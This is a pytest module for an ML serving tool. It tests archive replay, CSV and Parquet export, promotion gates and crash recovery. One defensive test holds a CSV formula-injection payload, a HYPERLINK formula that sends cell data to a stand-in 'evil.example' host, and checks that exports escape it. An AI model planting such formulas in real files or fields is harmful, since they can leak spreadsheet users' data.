"""Replay and export end to end: ``rdv serve`` (gateway, a worker per role, log bin) as a real
process on a real Redis with real ONNX models; traffic through the gateway fills the archive
and the decisions stream, labels arrive through the feedback route, and replays run through
the admin API and ``rdv replay``; exports through ``rdv archive export``."""

from __future__ import annotations

import csv
import json
import os
import signal
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import numpy as np
import pytest
from admin_support import features_body
from replay_support import (
    REPLAYS,
    K,
    Served,
    decisions_of,
    expected_report,
    serve_with_traffic,
    without_timing,
)

from models.archive import ArchiveReader
from models.replay_store import ReplayStore, replay_report_for
from models.train import DEMO_DEPLOYMENT, demo_data
from processes import PREDICT, RdvProcess, wait_until
from rendezvous import names
from rendezvous.bus.server import free_port

PARTITION_0 = names.input_stream(DEMO_DEPLOYMENT)


@pytest.fixture(scope="module")
def served(
    redis_url: str, demo_data_dir: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Served]:
    yield from serve_with_traffic(redis_url, demo_data_dir, tmp_path_factory)


@pytest.fixture(scope="module")
def first(served: Served) -> dict[str, Any]:
    """A finished replay of the weak version on every archived request (``last``)."""
    report = served.finished(served.replay({"version": served.weak, "last": len(served.ids)})["id"])
    assert report["state"] == "done", report
    return report


def test_replay_agrees_with_onnxruntime_run_directly(served: Served, first: dict) -> None:
    exp = expected_report(served, first["positions"], served.weak)
    assert first["records"] == exp["records"] == len(served.ids)
    assert first["rows"] == exp["rows"] == K + 6
    assert first["progress"]["done"] == first["progress"]["total"] == len(served.ids)
    assert first["predicted"] == exp["predicted"]
    assert first["outputs_sha256"] == exp["digest"]
    assert 0 < exp["agreed"] < exp["given_rows"]  # the weak model differs from what was given
    agreement = first["agreement"]
    assert agreement["matched_records"] == exp["matched"] == len(served.ids)
    assert (agreement["rows"], agreement["agreed_rows"]) == (exp["given_rows"], exp["agreed"])
    assert agreement["rate"] == exp["agreed"] / exp["given_rows"]
    assert first["accuracy"]["labeled_rows"] == exp["labeled"] == len(served.labels) + 2
    assert 0 < first["accuracy"]["correct"] == exp["correct"] <= exp["labeled"]
    assert first["divergence"]["disagreements"] == exp["real_disagreements"]
    assert first["divergence"]["histogram"]["counts"] == exp["hist"]
    assert sum(exp["hist"]) == first["divergence"]["records"] > len(served.ids) // 2
    assert first["latency"]["batches"] == exp["batches"] > 1
    assert first["latency"]["row_us_mean"] > 0
    ((stream, span),) = first["positions"].items()
    assert stream == names.input_stream(DEMO_DEPLOYMENT) and span["records"] == len(served.ids)


def test_the_same_range_and_version_give_the_same_report(served: Served, first: dict) -> None:
    again = served.finished(served.replay({"version": served.weak, "last": len(served.ids)})["id"])
    assert again["id"] != first["id"]
    assert without_timing(again) == without_timing(first)
    by_position = served.finished(
        served.replay({"version": served.weak, "positions": first["positions"]})["id"]
    )
    assert {k: v for k, v in without_timing(by_position).items() if k != "request"} == {
        k: v for k, v in without_timing(first).items() if k != "request"
    }
    assert replay_report_for(served.r, DEMO_DEPLOYMENT, served.weak)["id"] == by_position["id"]
    assert replay_report_for(served.r, DEMO_DEPLOYMENT, 99) is None
    listed = served.http.get(REPLAYS).json()["replays"]
    assert [x["id"] for x in listed[:2]] == [by_position["id"], again["id"]]


def test_interrupt_and_resume_give_the_same_report(served: Served, first: dict) -> None:
    started = served.replay({"version": served.weak, "last": len(served.ids)})
    resp = served.http.post(f"{REPLAYS}/{started['id']}/cancel")
    assert resp.status_code == 200, resp.text
    stopped = resp.json()
    assert stopped["state"] == "interrupted", stopped
    assert stopped["progress"]["done"] < len(served.ids)
    resp = served.http.post(f"{REPLAYS}/{started['id']}/resume")
    assert resp.status_code == 202, resp.text
    # Stopped again with DELETE, then left as a dead gateway leaves it: "running" without the
    # runner's lease. It reads as interrupted and resumes from the saved position.
    resp = served.http.delete(f"{REPLAYS}/{started['id']}")
    assert resp.status_code == 200 and resp.json()["state"] == "interrupted", resp.text
    key = names.replay_key(DEMO_DEPLOYMENT, started["id"])
    stored = json.loads(served.r.hget(key, "report"))  # type: ignore[arg-type]
    served.r.hset(key, "report", json.dumps({**stored, "state": "running"}))
    seen = served.http.get(f"{REPLAYS}/{started['id']}").json()
    assert seen["state"] == "interrupted" and "stopped" in seen["reason"]
    assert served.http.post(f"{REPLAYS}/{started['id']}/resume").status_code == 202
    final = served.finished(started["id"])
    assert final["state"] == "done", final
    assert final["timing"]["runs"] == 3
    assert without_timing(final) == without_timing(first)
    assert served.http.post(f"{REPLAYS}/{started['id']}/resume").status_code == 409


@pytest.mark.parametrize(
    ("path", "body", "status", "says"),
    [
        (REPLAYS, {"version": 999}, 404, "version 999 is not in the registry"),
        (REPLAYS, {"version": 1, "model": "nope"}, 404, "model nope version 1"),
        ("/admin/deployments/nope/replays", {"version": 1}, 404, "'nope' does not exist"),
        (
            REPLAYS,
            {"version": 1, "from": "2026-12-02T10:00:00Z", "to": "2026-12-01"},
            422,
            "is after",
        ),
        (REPLAYS, {"version": 1, "from": "yesterday"}, 422, "neither ISO-8601"),
        (REPLAYS, {"version": 1, "from": 1, "last": 5}, 422, "not both"),
        (REPLAYS, {"version": 1, "last": 0}, 422, "greater than or equal to 1"),
        # found by a helper's probe: coerced, and {"version": true} replayed version 1
        (REPLAYS, {"version": True, "last": 5}, 422, "valid integer"),
        (REPLAYS, {"version": "2", "last": 3}, 422, "valid integer"),
        (REPLAYS, {"version": 1, "last": True}, 422, "valid integer"),
        (
            REPLAYS,
            {"version": 1, "positions": {PARTITION_0: {"first": "9-0", "last": "1-0"}}},
            422,
            "is after last",
        ),
        (  # found by hand: accepted, then the replay failed empty
            REPLAYS,
            {"version": 1, "positions": {"rdv:{other}:in": {"first": "1-0", "last": "2-0"}}},
            422,
            "is not an input stream of breast-cancer",
        ),
        (  # found by hand: accepted, then the replay failed with Redis's words
            REPLAYS,
            {"version": 1, "positions": {PARTITION_0: {"first": "1-0", "last": "1" * 23}}},
            422,
            "not a stream id",
        ),
        (REPLAYS, {"version": 1, "to": 1000}, None, None),
        (f"{REPLAYS}/18c0a0b0c0d-0123456789ab/resume", None, 404, "no replay"),
        (f"{REPLAYS}/not-an-id/cancel", None, 422, "invalid replay id"),
    ],
)
def test_bad_requests_say_what_is_wrong(
    served: Served, path: str, body: dict | None, status: int | None, says: str | None
) -> None:
    resp = served.http.post(path, json=body)
    if status is None:  # an empty range: accepted, then failed with the reason
        assert resp.status_code == 202, resp.text
        report = served.finished(resp.json()["id"])
        assert report["state"] == "failed" and "no archived records" in report["reason"]
        # resumed, it fails the same way (it was a SliceError on its empty positions: a probe)
        again = served.http.post(f"{REPLAYS}/{report['id']}/resume")
        assert again.status_code in (200, 202), again.text
        report = served.finished(report["id"])
        assert report["state"] == "failed" and "no archived records" in report["reason"], report
        return
    assert resp.status_code == status, resp.text
    assert says in json.dumps(resp.json()), resp.text


def test_the_replays_of_a_deployment_that_does_not_exist_are_a_404(served: Served) -> None:
    """Found by a helper's probe: an empty list (200) said nothing of a misspelt name."""
    resp = served.http.get("/admin/deployments/nope/replays")
    assert resp.status_code == 404 and "'nope' does not exist" in resp.text, resp.text
    assert served.http.get(REPLAYS).status_code == 200


def test_rdv_replay_prints_the_report_and_fails_with_the_reason(served: Served) -> None:
    done = served.rdv(
        "replay",
        "--url",
        served.url,
        "--deployment",
        DEMO_DEPLOYMENT,
        "--version",
        str(served.weak),
        "--last",
        "5",
    )
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert report["state"] == "done" and report["records"] == 5
    assert "records" in done.stderr  # progress
    refused = served.rdv(
        "replay",
        "--url",
        served.url,
        "--deployment",
        DEMO_DEPLOYMENT,
        "--version",
        "999",
        "--last",
        "5",
    )
    assert refused.returncode != 0
    assert "version 999 is not in the registry" in refused.stderr


def _archived_rows(served: Served) -> list[tuple[str, int, list[float]]]:
    return [
        (rec["request_id"], k, row)
        for rec in ArchiveReader(served.data / "logbin").records(DEMO_DEPLOYMENT)
        for k, row in enumerate(rec["features"])
    ]


@pytest.mark.pure
def test_a_csv_export_never_holds_a_formula(tmp_path: Path) -> None:
    """A caller's X-Request-Id (or an admin's feature name) starting with '=' reached the CSV
    as a cell a spreadsheet runs as a formula (found by hand). Text cells that could start
    one get a leading apostrophe; numbers, negative ones too, are written as they are."""
    from models.export import _csv

    out = tmp_path / "x.csv"
    rows = [{"request_id": '=HYPERLINK("http://evil.example/?"&A2,"click")', "=f": -1.5},
            {"request_id": "@SUM(A1)", "=f": 2.0}, {"request_id": "plain", "=f": None}]  # fmt: skip
    assert _csv(out, ["request_id", "=f"], iter([rows])) == 3
    with out.open(newline="") as f:
        read = list(csv.reader(f))
    assert read == [["request_id", "'=f"],
                    ["'=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")", "-1.5"],
                    ["'@SUM(A1)", "2.0"], ["plain", ""]]  # fmt: skip


@pytest.mark.parametrize("fmt", ["parquet", "csv"])
def test_export_round_trip(served: Served, fmt: str, tmp_path: Path) -> None:
    out = tmp_path / f"slice.{fmt}"
    done = served.rdv(
        "archive",
        "export",
        "--deployment",
        DEMO_DEPLOYMENT,
        "--data-dir",
        str(served.data),
        "--from",
        "0",
        "--format",
        fmt,
        "--out",
        str(out),
    )
    assert done.returncode == 0, done.stderr
    meta = json.loads(done.stdout)
    expected = _archived_rows(served)
    names_ = demo_data().names
    if fmt == "parquet":
        import pyarrow.parquet as pq

        table = pq.read_table(out)
        rows = table.to_pylist()
        stored = json.loads(pq.read_metadata(out).metadata[b"rdv"])
        assert str(table.schema.field(names_[0]).type) == "float"
    else:
        with out.open(newline="") as f:
            rows = list(csv.DictReader(f))
        stored = json.loads(Path(f"{out}.meta.json").read_text())
    assert stored["positions"] == meta["positions"] and meta["rows"] == len(expected)
    assert len(rows) == len(expected) >= len(served.ids)
    assert list(rows[0]) == meta["columns"]
    assert meta["roles"] == ["real", "canary"]
    decisions = decisions_of(served.r)
    compared = {"real": 0, "canary": 0}
    for row, (rid, k, features) in zip(rows, expected, strict=True):
        assert (row["request_id"], int(row["row"])) == (rid, k)
        got = [float(row[n]) for n in names_]
        assert np.array_equal(np.float32(got), np.float32(features))
        if rid in decisions:  # the role whose answer the caller got, "none" for none
            chosen = decisions[rid].chosen_role
            answer = decisions[rid].outputs.get(chosen) if chosen else None
            expected = chosen if answer is not None and answer.ok else "none"
            assert row["answered_by"] == expected, (rid, row["answered_by"], chosen)
        for role in ("real", "canary"):  # what the decision record kept (a late bin: nothing)
            given = decisions[rid].outputs.get(role)
            if given is None or given.labels is None or given.probabilities is None:
                assert row[f"{role}_label"] in (None, ""), (rid, role)
                continue
            compared[role] += 1
            assert int(row[f"{role}_label"]) == given.labels[k]
            assert int(row[f"{role}_version"]) == given.version
            assert float(row[f"{role}_proba_1"]) == given.probabilities[k][1]
        label = served.labels[rid][k] if rid in served.labels else None
        assert (None if row["label"] in (None, "") else int(row["label"])) == label
    assert min(compared.values()) > len(expected) // 2, compared
    # The same slice again, by the positions the first export named.
    again = tmp_path / f"again.{fmt}"
    source = f"@{out}.meta.json" if fmt == "csv" else json.dumps(meta["positions"])
    done = served.rdv(
        "archive",
        "export",
        "--deployment",
        DEMO_DEPLOYMENT,
        "--data-dir",
        str(served.data),
        "--positions",
        source,
        "--format",
        fmt,
        "--out",
        str(again),
    )
    assert done.returncode == 0, done.stderr
    if fmt == "csv":
        assert again.read_text() == out.read_text()
    else:
        assert pq.read_table(again).equals(table)
    # positions without their counts (written by hand): the metadata said records 0
    bare = {s: {"first": p["first"], "last": p["last"]} for s, p in meta["positions"].items()}
    done = served.rdv("archive", "export", "--deployment", DEMO_DEPLOYMENT, "--data-dir",
                      str(served.data), "--positions", json.dumps(bare), "--format", fmt,
                      "--out", str(tmp_path / f"bare.{fmt}"))  # fmt: skip
    assert done.returncode == 0, done.stderr
    counted = json.loads(done.stdout)["positions"]
    assert {s: p["records"] for s, p in counted.items()} == {
        s: p["records"] for s, p in meta["positions"].items()
    }
    assert sum(p["records"] for p in counted.values()) > 0
    assert json.loads(done.stdout)["rows_past_label_retention"] == 0
    # past the feedback retention, labels are gone from Redis: an empty label said nothing
    # of it (a helper's probe read such rows as unlabelled); counted and said now
    served.env["RDV_FEEDBACK_RETENTION_S"], served.env["RDV_FEEDBACK_BUCKET_S"] = "1", "1"
    try:
        late = served.rdv("archive", "export", "--deployment", DEMO_DEPLOYMENT, "--data-dir",
                          str(served.data), "--positions", json.dumps(bare), "--format", fmt,
                          "--out", str(tmp_path / f"late.{fmt}"))  # fmt: skip
    finally:
        del served.env["RDV_FEEDBACK_RETENTION_S"], served.env["RDV_FEEDBACK_BUCKET_S"]
    assert late.returncode == 0, late.stderr
    assert json.loads(late.stdout)["rows_past_label_retention"] == meta["rows"]
    assert "older than RDV_FEEDBACK_RETENTION_S" in late.stderr, late.stderr
    bad = served.rdv(
        "archive",
        "export",
        "--deployment",
        DEMO_DEPLOYMENT,
        "--data-dir",
        str(served.data),
        "--from",
        "2026-12-02",
        "--to",
        "2026-12-01",
        "--out",
        str(tmp_path / "x"),
    )
    assert bad.returncode != 0 and "is after --to 2026-12-01" in bad.stderr
    future = served.rdv("archive", "export", "--deployment", DEMO_DEPLOYMENT, "--data-dir",
                        str(served.data), "--from", "2999-01-01",
                        "--out", str(tmp_path / "z"))  # fmt: skip
    assert future.returncode != 0 and "is after --to now" in future.stderr, future.stderr
    unknown = served.rdv("archive", "export", "--deployment", "nope", "--data-dir",
                         str(served.data), "--out", str(tmp_path / "y"))  # fmt: skip
    assert unknown.returncode != 0 and "nope" in unknown.stderr, unknown.stderr


def test_the_gate_can_require_a_replay_of_the_candidate(served: Served, first: dict) -> None:
    """Refused without a finished replay of the candidate, or with one that agrees too little
    with the answers given then, with the figures; promoted once the replay suffices."""
    promote = f"/admin/deployments/{DEMO_DEPLOYMENT}/promote"
    unreplayed = served.http.post(promote, json={"version": 1, "require_replay": True})
    assert unreplayed.status_code == 409, unreplayed.text
    assert "no finished replay of" in unreplayed.text and "v1" in unreplayed.text
    full = served.finished(served.replay({"version": served.weak, "last": len(served.ids)})["id"])
    latest = replay_report_for(served.r, DEMO_DEPLOYMENT, served.weak)
    assert latest is not None and latest["id"] == full["id"]
    assert 0 < latest["agreement"]["rate"] < 1  # the weak model differs from what was given
    rate = latest["agreement"]["rate"]
    strict = served.http.post(promote, json={"version": served.weak, "min_replay_agreement": 1.0})
    assert strict.status_code == 409, strict.text
    assert f"{rate:.2%}" in strict.text and "min_replay_agreement=1.0" in strict.text
    too_few = served.http.post(
        promote, json={"version": served.weak, "min_replay_records": latest["records"] + 1}
    )
    assert too_few.status_code == 409 and "min_replay_records" in too_few.text, too_few.text
    # a quick replay of one record, run after the full one, does not stand in for it, with a
    # number of records demanded or without (found by helpers' probes: the latest alone was
    # judged; without a floor, one record that agreed passed a gate the full replay failed)
    quick = served.finished(served.replay({"version": served.weak, "last": 1})["id"])
    assert quick["records"] == 1
    assert replay_report_for(served.r, DEMO_DEPLOYMENT, served.weak)["id"] == full["id"]  # type: ignore[index]
    judged = served.http.post(promote, json={"version": served.weak, "require_replay": True,
                                             "min_replay_agreement": 1.0})  # fmt: skip
    assert judged.status_code == 409 and full["id"] in judged.text, judged.text
    ok = served.http.post(promote, json={
        "version": served.weak, "require_replay": True, "min_replay_records": latest["records"],
        "min_replay_agreement": rate, "reason": "replayed",
    })  # fmt: skip
    assert ok.status_code == 200, ok.text
    history = served.http.get(f"/admin/deployments/{DEMO_DEPLOYMENT}/history").json()
    entries = history["history"] if isinstance(history, dict) else history
    gates = [e["detail"]["gate"] for e in entries if e.get("action") == "promote"]
    assert gates[-1]["replay"]["id"] == latest["id"] and gates[-1]["shortfalls"] == []
    assert gates[-1]["replay"]["agreement_rate"] == rate
    refused = [e for e in entries if e.get("action") == "promote-refused"]
    assert any("no finished replay" in str(e) or e["detail"]["gate"]["replay"] is None
               for e in refused)  # fmt: skip


def test_once_the_decisions_are_trimmed_the_kept_outcomes_stand_in(
    served: Served, first: dict, tmp_path: Path
) -> None:
    """The decisions stream keeps minutes of records, the outcomes kept for feedback days: a
    replay and an export of a slice whose decision records are gone say the same as before."""

    def export(name: str) -> str:
        out = tmp_path / name
        done = served.rdv("archive", "export", "--deployment", DEMO_DEPLOYMENT, "--data-dir",
                          str(served.data), "--positions", json.dumps(first["positions"]),
                          "--format", "csv", "--out", str(out))  # fmt: skip
        assert done.returncode == 0, done.stderr
        return out.read_text()

    kept = export("kept.csv")
    stream = names.decisions_stream(DEMO_DEPLOYMENT)
    served.r.rename(stream, f"{stream}:aside")  # as if trimmed: the same tag, put back below
    try:
        assert decisions_of(served.r) == {}
        again = served.finished(
            served.replay({"version": served.weak, "positions": first["positions"]})["id"]
        )
        assert again["agreement"]["matched_records"] == len(served.ids)
        assert {k: v for k, v in without_timing(again).items() if k != "request"} == {
            k: v for k, v in without_timing(first).items() if k != "request"
        }
        assert export("trimmed.csv") == kept
    finally:
        served.r.rename(f"{stream}:aside", stream)


def _runner_pid(served: Served, rid: str) -> int:
    """The replay process's pid, from the lease it renames to itself at its first batch."""

    def holder() -> int | None:
        owner = served.r.get(names.replay_lock_key(DEMO_DEPLOYMENT, rid))
        name = owner.decode() if isinstance(owner, bytes) else ""
        return int(name.removeprefix("replay-")) if name.startswith("replay-") else None

    return wait_until(holder, 20, f"replay {rid}'s process to hold its lease", 0.02)  # type: ignore[no-any-return]


def test_a_killed_replay_reads_interrupted_at_once_and_an_orphaned_one_stops(
    served: Served, first: dict, tmp_path: Path
) -> None:
    """Found by a helper's probe: a replay process killed with SIGKILL read ``running`` for
    the lease's 30 s; one whose gateway was killed ran on, unseen and outside any gateway's
    concurrency bound."""
    rid = served.replay({"version": served.weak, "last": len(served.ids)})["id"]
    os.kill(_runner_pid(served, rid), signal.SIGKILL)
    seen = served.finished(rid, timeout_s=5)  # not after the lease's 30 s
    assert seen["state"] == "interrupted", seen
    assert seen["reason"].startswith("its runner stopped before the end"), seen  # not "gateway"
    assert served.http.post(f"{REPLAYS}/{rid}/resume").status_code == 202
    assert without_timing(served.finished(rid)) == without_timing(first)

    port = free_port()
    env = {**served.env, "RDV_PORT": str(port), "RDV_GATEWAY_PROCESSES": "1",
           "RDV_REPLAY_PAUSE_MS": "1000"}  # fmt: skip
    other = RdvProcess(["gateway"], env, tmp_path / "gateway-2.log")
    try:
        with httpx.Client(base_url=f"http://127.0.0.1:{port}", headers=served.http.headers) as http:
            wait_until(lambda: http.get("/healthz").status_code == 200, 30, "a second gateway")
            resp = http.post(REPLAYS, json={"version": served.weak, "last": len(served.ids)})
        assert resp.status_code == 202, resp.text
        orphan = resp.json()["id"]
        _runner_pid(served, orphan)
    finally:
        other.kill()
    ended = served.finished(orphan, timeout_s=8)  # its batches alone would take 10 s or more
    assert ended["state"] == "interrupted" and "stopped or died" in ended["reason"]
    assert ended["progress"]["done"] < ended["progress"]["total"]


def test_a_replay_stopped_with_its_gateway_resumes_after_a_restart(
    served: Served, first: dict
) -> None:
    """Last in the module: it restarts ``rdv serve``."""
    rid = served.replay({"version": served.weak, "last": len(served.ids)})["id"]
    path = f"{REPLAYS}/{rid}"
    wait_until(lambda: served.http.get(path).json()["progress"]["done"] > 0, 30, "a batch")
    assert served.proc.stop(timeout_s=40) == 0, served.proc.log_text()[-3000:]
    stopped = ReplayStore(served.r).get(DEMO_DEPLOYMENT, rid)
    assert stopped is not None and stopped["state"] == "interrupted", stopped
    assert stopped["reason"].startswith("the gateway running it stopped or died")
    assert 0 < stopped["progress"]["done"] < stopped["progress"]["total"] == len(served.ids)
    served.proc = RdvProcess(["serve", "--data-dir", str(served.data)], served.env,
                             served.proc.log_path.with_name("serve-2.log"))  # fmt: skip
    wait_until(lambda: served.http.get("/readyz").status_code == 200, 60, "serve to restart")
    assert served.http.post(f"{path}/resume").status_code == 202
    final = served.finished(rid)
    assert final["state"] == "done" and final["timing"]["runs"] == 2, final
    assert without_timing(final) == without_timing(first)


def _child_pid(parent: int, word: str) -> int:
    """The pid of ``parent``'s child whose command line holds ``word``."""
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        try:
            ppid = int((proc / "stat").read_text().rsplit(")", 1)[1].split()[1])
            command = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode()
        except (OSError, IndexError, ValueError):
            continue
        if ppid == parent and word in command:
            return int(proc.name)
    raise AssertionError(f"no child of {parent} runs {word}")


def test_an_export_until_now_ends_where_the_archive_is_complete(
    served: Served, tmp_path: Path
) -> None:
    """An export "until now" taken while the log bin had requests still to write said it
    covered until now and lacked them, so a pipeline exporting from its last ``to_ms`` lost
    them (a helper's probe: 661 of 13,348). Now it ends before the first request not yet
    archived, and the next window, from there on, holds them. After the restart test: it
    adds requests to the archive."""
    logbin = _child_pid(served.proc.proc.pid, "logbin")
    rows = demo_data().x_test
    wait_until(lambda: served.http.get("/readyz").status_code == 200, 60, "serve to be ready")

    def export(name: str, *window: str) -> tuple[dict[str, Any], list[str], str]:
        out = tmp_path / name
        done = served.rdv("archive", "export", "--deployment", DEMO_DEPLOYMENT, "--data-dir",
                          str(served.data), *window, "--out", str(out))  # fmt: skip
        assert done.returncode == 0, done.stderr
        with out.open(newline="") as f:
            return (
                json.loads(done.stdout),
                [r["request_id"] for r in csv.DictReader(f)],
                done.stderr,
            )

    archive = ArchiveReader(served.data / "logbin")
    wait_until(lambda: {r.get("request_id") for r in archive.records(DEMO_DEPLOYMENT)}
               >= set(served.ids), 30, "the module's requests archived")  # fmt: skip
    time.sleep(1.1)  # and older than an open --to's margin
    os.kill(logbin, signal.SIGSTOP)
    try:
        held = [f"held-{i}" for i in range(3)]
        for rid in held:
            resp = served.http.post(PREDICT, json=features_body(rows[0]),
                                    headers={"X-Request-Id": rid})  # fmt: skip
            assert resp.status_code == 200, resp.text
        now, ids, said = export("now.csv", "--from", "0")
        assert not set(held) & set(ids) and said == ""
        to_ms = now["request"]["to_ms"]
        # the next window, the log bin still stopped: empty, exit 0, and it starts there again
        # (it said "from is after to" and exited 1: a helper's probe)
        nothing, ids, _ = export("nothing.csv", "--from", str(int(to_ms) + 1))
        assert ids == [] and nothing["request"]["to_ms"] == to_ms, nothing["request"]
        # and the empty slice taken again by its positions is empty (it was refused, exit 1)
        again, ids, _ = export("again.csv", "--positions", f"@{tmp_path / 'nothing.csv.meta.json'}")
        assert ids == [] and again["positions"] == {}, again
        later, _, said = export("asked.csv", "--from", "0", "--to", str(int(time.time() * 1000)))
        assert "the log bin has yet to archive requests from" in said, said
        assert to_ms <= later["request"]["to_ms"] < later["request"]["asked_to_ms"]
    finally:
        os.kill(logbin, signal.SIGCONT)
    wait_until(lambda: set(held) <= set(export("next.csv", "--from", str(int(to_ms) + 1))[1]),
               30, "the held requests in the next window")  # fmt: skip
    # A fractional --to of a time all archived: it said "the log bin has yet to archive
    # requests from None on" (a helper's CLI probe)
    frac, _, said = export("frac.csv", "--from", "0", "--to", f"{int(to_ms)}.5")
    assert said == "" and "asked_to_ms" not in frac["request"], (said, frac["request"])
    # An explicit --to still to come, everything archived: it kept its future end, so requests
    # made before it came were in no window (a helper's README probe)
    asked_ms = int(time.time() * 1000) + 60_000
    future, _, said = export("future.csv", "--from", "0", "--to", str(asked_ms))
    assert f"--to {asked_ms} is still to come" in said, said
    assert future["request"]["to_ms"] < time.time() * 1000 - 900, future["request"]
    assert future["request"]["asked_to_ms"] == asked_ms, future["request"]


def test_every_redis_read_of_an_export_rides_out_a_failure(
    served: Served, first: dict, tmp_path: Path
) -> None:
    """Only the first two lookups of ``rdv archive export`` rode out a Redis restart: one a
    second in ended it, the decision records and labels read unprotected (a helper's live
    check). Each read fails once here and is read again: the same file as without."""
    import redis

    from models.archive_slice import positions_from
    from models.export import Exporter

    names_ = tuple(demo_data().names)
    reads: list[str] = []

    def flaky(read: Any) -> Any:
        reads.append(getattr(read, "__qualname__", "read"))
        if len(reads) % 2:  # each first try fails, as through a restart
            raise redis.ConnectionError("Redis restarting")
        return read()

    def ride(read: Any) -> Any:
        while True:
            try:
                return flaky(read)
            except redis.ConnectionError:
                continue

    positions = positions_from(first["positions"], DEMO_DEPLOYMENT)
    reader = ArchiveReader(served.data / "logbin")
    done = {}
    for name, how in (("plain", None), ("ridden", ride)):
        exporter = Exporter(served.r, reader, DEMO_DEPLOYMENT, names_, [0, 1], ride=how)
        doc = exporter.export(positions, tmp_path / f"{name}.csv", "csv", {})
        done[name] = ((tmp_path / f"{name}.csv").read_text(), doc["rows"])
    assert done["ridden"] == done["plain"] and done["plain"][1] > 0
    assert len(reads) >= 2 * 4  # decisions, outcome keys, label keys, labels: each tried twice
